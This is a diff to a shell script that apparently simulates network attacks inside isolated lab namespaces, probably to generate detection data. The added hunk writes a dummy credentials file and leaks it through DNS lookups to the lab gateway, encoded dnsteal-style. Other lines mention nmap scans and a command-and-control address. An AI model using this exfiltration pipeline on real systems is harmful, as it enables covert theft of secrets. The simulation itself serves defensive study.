@@ -13,7 +13,9 @@
 #   scanner  10.79.0.40   e4:54:e8 Dell     attack only: nmap SYN and UDP port scans of dvr, sweep of
 #                                          10.79.2.0/27 on tcp/80, ARP pings of the empty
 #                                          10.79.0.64/27, ICMP pings of 10.79.2.32/27
-#   nas      10.79.0.50   00:11:32 Synology benign: small uploads; attack: 6 MB bulk upload
+#   nas      10.79.0.50   00:11:32 Synology benign: small uploads; attack: 6 MB bulk upload, and a
+#                                          file sent to gw's DNS server in names, as dnsteal's
+#                                          client one-liner sends it
 #   inet     198.51.100.10 (behind gw)      accepts TCP on 443 and 8443; 198.51.100.66 is the
 #                                          attack's command-and-control address
 # Traffic never leaves these namespaces.
@@ -116,6 +118,15 @@ if [ "$mode" = attack ]; then
     >"$work/nmap4.log" 2>&1
   in_ns nas python3 "$here/beacon.py" --host 198.51.100.10 --port 443 --count 1 \
     --upload 6000000 >"$work/upload.log" 2>&1
+  # A file leaving in DNS names the way dnsteal's client one-liner sends it: gzip, base64 with
+  # "+" written "*", labels of 57 characters and "-", four to a name, the file's name last.
+  printf 'db_user=admin\ndb_password=lab-only-secret\napi_key=0123456789abcdef\n' \
+    >"$work/secrets.txt"
+  gzip -c "$work/secrets.txt" | base64 -w0 | tr '+' '*' | fold -w 57 | paste -d' ' - - - - |
+    while read -r labels; do
+      name=$(printf '%s-.' $labels)secrets.txt
+      in_ns nas busybox nslookup "$name" 10.79.0.1 >/dev/null 2>&1 || true
+    done
 fi
 for job in beacon brute benign-cam benign-nas; do
   [ -f "$work/$job.pid" ] || continue
